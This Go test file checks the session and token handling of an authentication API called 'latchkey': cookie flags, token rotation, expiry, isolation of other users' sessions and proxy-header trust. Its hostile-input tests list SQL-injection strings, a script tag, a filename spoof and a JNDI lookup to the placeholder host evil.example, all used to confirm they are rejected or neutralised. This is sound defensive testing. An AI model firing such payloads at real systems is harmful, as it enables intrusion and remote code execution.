package api_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/latchkey/latchkey/internal/testkit/apptest"
)

func TestCookieAttributes(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		prefix string
		secure bool
		env    []string
	}{
		"http":  {"", false, nil},
		"https": {"__Host-", true, []string{"LATCHKEY_PUBLIC_URL=https://id.example.com"}},
	} {
		t.Run(name, func(t *testing.T) {
			a := apptest.SQLite(t, c.env...)
			b, w := a.Browser(), apptest.NewWallet(t)
			challenge := b.Challenge(w, "sign_in")
			answer := verify(b, signed(t, w, challenge)).Want(http.StatusOK)
			out := b.DELETE("/v1/session").Want(http.StatusNoContent)
			for want, header := range map[string]http.Header{
				c.prefix + "latchkey-flow": challenge.Header, c.prefix + "latchkey": answer.Header,
			} {
				cookies := (&http.Response{Header: header}).Cookies()
				if len(cookies) != 1 {
					t.Fatalf("%s: %q", want, header["Set-Cookie"])
				}
				k := cookies[0]
				if k.Name != want || !k.HttpOnly || k.Secure != c.secure || k.SameSite != http.SameSiteLaxMode || k.Path != "/" ||
					k.Domain != "" || k.MaxAge <= 0 || len(k.Value) != 43 {
					t.Errorf("%s: %s", want, k)
				}
			}
			cleared := (&http.Response{Header: out.Header}).Cookies()
			if len(cleared) != 1 || cleared[0].Name != c.prefix+"latchkey" || cleared[0].MaxAge >= 0 || cleared[0].Value != "" || cleared[0].Secure != c.secure {
				t.Errorf("sign-out: %v", cleared)
			}
		})
	}
	t.Run("the plain name is nothing on https", func(t *testing.T) {
		a := apptest.SQLite(t, "LATCHKEY_PUBLIC_URL=https://id.example.com")
		b := a.Browser()
		b.Wallet(apptest.NewWallet(t), "sign_in").Want(http.StatusOK)
		tossed := a.Browser()
		tossed.SetCookie("latchkey", b.Cookie("__Host-latchkey")) // as a subdomain could
		tossed.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
	})
}

func TestTokenDeliveryAndRotation(t *testing.T) {
	apptest.Each(t, func(t *testing.T, a *apptest.App) {
		w := apptest.NewWallet(t)
		app := a.Browser()
		body := signed(t, w, app.Challenge(w, "sign_in"))
		body["delivery"] = "token"
		first := verify(app, body).Want(http.StatusOK)
		if app.Cookie("latchkey") != "" || len(first.String("token")) != 43 || first.Get("session.token") != nil {
			t.Fatalf("delivery by token: %s", first.Body)
		}
		app.Bearer = first.String("token")
		app.GET("/v1/session").Want(http.StatusOK)
		// A bearer client stays one without saying so again.
		stepped := app.Wallet(w, "step_up").Want(http.StatusOK)
		if stepped.String("token") == "" || stepped.String("token") == app.Bearer || app.Cookie("latchkey") != "" {
			t.Errorf("step_up: %s", stepped.Body)
		}
		app.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		if got := stepped.String("session.id"); got != first.String("session.id") {
			t.Errorf("step_up made another session")
		}
		app.Bearer = stepped.String("token")
		app.GET("/v1/session").Want(http.StatusOK)

		// Hashed at rest: the token is in no table.
		web := a.Browser()
		web.Wallet(w, "sign_in").Want(http.StatusOK)
		for table, rows := range a.Snapshot() {
			for _, secret := range []string{first.String("token"), stepped.String("token"), web.Cookie("latchkey"), web.Cookie("latchkey-flow")} {
				if secret == "" || strings.Contains(strings.Join(rows, "\n"), secret) {
					t.Errorf("%s holds the token %q", table, secret)
				}
			}
		}
		for _, path := range []string{"/v1/session", "/v1/me/sessions", "/v1/me"} {
			if answer := web.GET(path); strings.Contains(string(answer.Body), web.Cookie("latchkey")) {
				t.Errorf("%s tells the token", path)
			}
		}
	})
}

func TestGarbageTokens(t *testing.T) {
	t.Parallel()
	a := apptest.SQLite(t)
	good := a.Browser()
	good.Wallet(apptest.NewWallet(t), "sign_in").Want(http.StatusOK)
	token := good.Cookie("latchkey")
	for _, value := range []string{
		"Bearer", "Bearer ", "Bearer  " + token, "Basic " + token, "Token " + token, token, "Bearer " + token + " ", "Bearer " + token + "x", "Bearer " + token[1:],
		"Bearer " + strings.ToLower(token), "Bearer null", "Bearer ' OR '1'='1", "Bearer \xff\xfe", "Bearer " + strings.Repeat("a", 8000), "DPoP " + token,
		"Bearer " + token + "," + token, "Bearer " + token + "=", "-", "Digest username=x",
	} {
		a.Unchanged(t, func() {
			answer := a.Browser().With("Authorization", value).GET("/v1/session")
			if strings.TrimSpace(value) == "Bearer "+token { // HTTP itself trims
				return
			}
			answer.WantProblem(http.StatusUnauthorized, "unauthenticated")
			if answer.Header.Get("Www-Authenticate") == "" {
				t.Errorf("%q: no WWW-Authenticate", value)
			}
		})
		// A token that does not work is not made up for by a cookie that does.
		if strings.TrimSpace(value) != "Bearer "+token {
			b := good.With("Authorization", value)
			b.GET("/v1/me").WantProblem(http.StatusUnauthorized, "unauthenticated")
			// Nor counts it as none where none would do, as a cookie would.
			b.POST("/v1/auth/siwe/challenge", map[string]any{}).WantProblem(http.StatusUnauthorized, "unauthenticated")
		}
	}
	for _, value := range []string{"", "x", token + "x", token[:42], strings.Repeat("a", 4000), "%00", "\"" + token + "x\""} {
		b := a.Browser().With("Cookie", "latchkey="+value)
		b.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		b.POST("/v1/auth/siwe/challenge", map[string]any{}).Want(http.StatusOK)
	}
	a.Browser().With("Authorization", "bearer "+token).GET("/v1/session").Want(http.StatusOK) // RFC 7235: any case
	a.Browser().GET("/v1/session?token="+token+"&access_token="+token).WantProblem(http.StatusUnauthorized, "unauthenticated")
}

func TestSessionsOfOthersDoNotExist(t *testing.T) {
	apptest.Each(t, func(t *testing.T, a *apptest.App) {
		wa, wb := apptest.NewWallet(t), apptest.NewWallet(t)
		one, two, eve := a.Browser(), a.Browser(), a.Browser()
		one.Wallet(wa, "sign_in").Want(http.StatusOK)
		id := two.Wallet(wa, "sign_in").Want(http.StatusOK).String("session.id")
		eve.Wallet(wb, "sign_in").Want(http.StatusOK)
		own := eve.GET("/v1/session").String("session.id")
		a.Unchanged(t, func() {
			eve.DELETE("/v1/me/sessions/"+id).WantProblem(http.StatusNotFound, "not_found")
			eve.DELETE("/v1/me/sessions/00000000-0000-7000-8000-000000000000").WantProblem(http.StatusNotFound, "not_found")
			eve.DELETE("/v1/me/sessions?others=false").WantProblem(http.StatusBadRequest, "invalid_request")
			eve.DELETE("/v1/me/sessions").WantProblem(http.StatusBadRequest, "invalid_request")
		})
		two.GET("/v1/session").Want(http.StatusOK)
		if list := eve.GET("/v1/me/sessions").Want(http.StatusOK); list.Len("data") != 1 || list.String("data.0.id") != own {
			t.Errorf("sessions: %s", list.Body)
		}
		if list := one.GET("/v1/me/sessions").Want(http.StatusOK); list.Len("data") != 2 || list.Get("data.1.current") != true || list.Get("data.0.current") != false {
			t.Errorf("sessions: %s", list.Body)
		}
		one.DELETE("/v1/me/sessions/" + id).Want(http.StatusNoContent)
		two.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		one.DELETE("/v1/me/sessions/"+id).WantProblem(http.StatusNotFound, "not_found") // it has ended

		for range 3 {
			a.Browser().Wallet(wa, "sign_in").Want(http.StatusOK)
		}
		two.Wallet(wa, "sign_in").Want(http.StatusOK)
		one.DELETE("/v1/me/sessions?others=true").Want(http.StatusNoContent)
		two.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		one.GET("/v1/session").Want(http.StatusOK)
		eve.GET("/v1/session").Want(http.StatusOK)
		if n := a.Count("audit_events", "action = 'session.ended'"); n != 5 {
			t.Errorf("%d sessions ended in the audit trail, want 5", n)
		}
		stolen := a.Browser()
		stolen.Bearer = one.Cookie("latchkey")
		one.DELETE("/v1/session").Want(http.StatusNoContent)
		stolen.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
	})
}

func TestSessionsExpire(t *testing.T) {
	apptest.Each(t, func(t *testing.T, a *apptest.App) {
		a.Freeze()
		b, idle := a.Browser(), a.Browser()
		b.Wallet(apptest.NewWallet(t), "sign_in").Want(http.StatusOK)
		idle.Wallet(apptest.NewWallet(t), "sign_in").Want(http.StatusOK)
		a.Advance(time.Hour - time.Microsecond)
		b.GET("/v1/session").Want(http.StatusOK)
		a.Advance(time.Microsecond) // equal to the limit is over it
		idle.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		for range 4 { // used all the time, up to the absolute limit
			b.GET("/v1/session").Want(http.StatusOK)
			a.Advance(30 * time.Minute)
		}
		b.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		if n := a.Count("sessions", "ended_at IS NULL"); n != 2 {
			t.Fatalf("%d sessions: the test is not about expiry", n)
		}
	}, "LATCHKEY_SESSION_IDLE=1h", "LATCHKEY_SESSION_LIFETIME=3h")
}

// The address in the session is the peer's: who is no configured proxy is not
// believed about another.
func TestForwardedAddressIsBelievedOnlyFromProxies(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		env  []string
		want string
	}{
		{nil, "127.0.0.1"},
		{[]string{"LATCHKEY_TRUSTED_PROXIES=10.0.0.0/8"}, "127.0.0.1"},
		{[]string{"LATCHKEY_TRUSTED_PROXIES=127.0.0.0/8"}, "203.0.113.9"},
	} {
		a := apptest.SQLite(t, c.env...)
		b := a.Browser().With("X-Forwarded-For", "198.51.100.1, 203.0.113.9").With("X-Real-Ip", "198.51.100.2").With("Forwarded", "for=198.51.100.3")
		if got := b.Wallet(apptest.NewWallet(t), "sign_in").Want(http.StatusOK).String("session.ip"); got != c.want {
			t.Errorf("%v: address %s, want %s", c.env, got, c.want)
		}
	}
}

// Every way to sign in ends the session whose token the new one's takes the place of.
func TestSigningInAgainEndsTheSessionBefore(t *testing.T) {
	apptest.Each(t, func(t *testing.T, a *apptest.App) {
		w := apptest.NewWallet(t)
		byWallet := func(b *apptest.Browser, delivery string) *apptest.Answer {
			body := signed(t, w, b.Challenge(w, "sign_in"))
			body["delivery"] = delivery
			return verify(b, body).Want(http.StatusOK)
		}
		b := google(t, a, apptest.Person{Email: "again@gmail.com"})
		codes := b.POST("/v1/me/recovery-codes", nil).Want(http.StatusCreated)
		elsewhere := google(t, a, apptest.Person{Email: "again@gmail.com"})
		for _, step := range []struct {
			how  string
			do   func()
			ends bool
		}{
			{"a provider", func() { b.Provider("google", "sign_in", apptest.Person{Email: "again@gmail.com"}) }, true},
			{"a provider, as somebody else", func() { b.Provider("google", "sign_in", apptest.Person{Email: "other@gmail.com"}) }, true},
			{"a link in a mail", func() { b.Email("again@gmail.com", "sign_in").Want(http.StatusOK) }, true},
			{"a code in a mail", func() {
				b.EmailCode(b.StartEmail("code@gmail.com", "sign_in").Code(), "").Want(http.StatusOK)
			}, true},
			{"a recovery code", func() {
				b.POST("/v1/auth/recovery", map[string]any{"code": codes.String("codes.0")}).Want(http.StatusOK)
			}, true},
			{"a wallet", func() { byWallet(b, "cookie") }, true},
			{"a wallet, for a token of its own", func() { byWallet(b, "token") }, false},
			{"a recovery code, for a token of its own", func() {
				b.POST("/v1/auth/recovery", map[string]any{"code": codes.String("codes.1"), "delivery": "token"}).Want(http.StatusOK)
			}, false},
			{"a refused proof", func() {
				b.POST("/v1/auth/recovery", map[string]any{"code": codes.String("codes.0")}).WantProblem(http.StatusUnauthorized, "invalid_proof")
			}, false},
		} {
			before := a.Browser()
			before.Bearer = b.Cookie("latchkey")
			step.do()
			got := before.GET("/v1/session")
			if step.ends {
				got.WantProblem(http.StatusUnauthorized, "unauthenticated")
			} else if got.Status != http.StatusOK {
				t.Errorf("%s ended the session of the cookie", step.how)
			}
			elsewhere.GET("/v1/session").Want(http.StatusOK)
		}
		// A client that keeps a token replaces it, and no cookie of anybody's.
		native := a.Browser()
		native.Bearer = byWallet(native, "token").String("token")
		next := byWallet(native, "token")
		native.GET("/v1/session").WantProblem(http.StatusUnauthorized, "unauthenticated")
		native.Bearer = next.String("token")
		native.GET("/v1/session").Want(http.StatusOK)
		byWallet(native, "cookie")
		native.GET("/v1/session").Want(http.StatusOK)
	})
}

func TestHostileUserAgentIsInert(t *testing.T) {
	t.Parallel()
	a := apptest.SQLite(t)
	b := a.Browser()
	b.Wallet(apptest.NewWallet(t), "sign_in").Want(http.StatusOK)
	w, origin := apptest.NewWallet(t), a.Config.PublicURL.Host
	for i, agent := range []string{
		"<script>alert(1)</script>", "\x1b[2J\x1b[31mred", "a\tb", "\xff\xfe", strings.Repeat("Mozilla ", 1000), "' OR 1=1 --", "\u202egnp.exe", "${jndi:ldap://evil.example}", "",
	} {
		// Over a raw connection: no client of Go's would send most of these.
		body, err := json.Marshal(signed(t, w, b.Challenge(w, "sign_in")))
		if err != nil {
			t.Fatal(err)
		}
		got := a.Raw(t, fmt.Appendf(nil, "POST /v1/auth/siwe/verify HTTP/1.1\r\nHost: %s\r\nCookie: latchkey-flow=%s\r\nUser-Agent: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
			origin, b.Cookie("latchkey-flow"), agent, len(body), body))
		if got.Status == http.StatusBadRequest && agent == "\x1b[2J\x1b[31mred" {
			continue // net/http refuses control characters itself
		}
		shown := got.Want(http.StatusOK).String("session.user_agent")
		if len(shown) > 512 || strings.ContainsAny(shown, "\x1b\t\x00\r\n") || strings.Contains(string(got.Body), "<script>") {
			t.Errorf("case %d: %q in %s", i, shown, got.Body)
		}
	}
	if strings.Contains(a.Log.String(), "\x1b") || strings.Contains(a.Log.String(), "\xff") {
		t.Error("the log holds raw bytes of a user agent")
	}
}
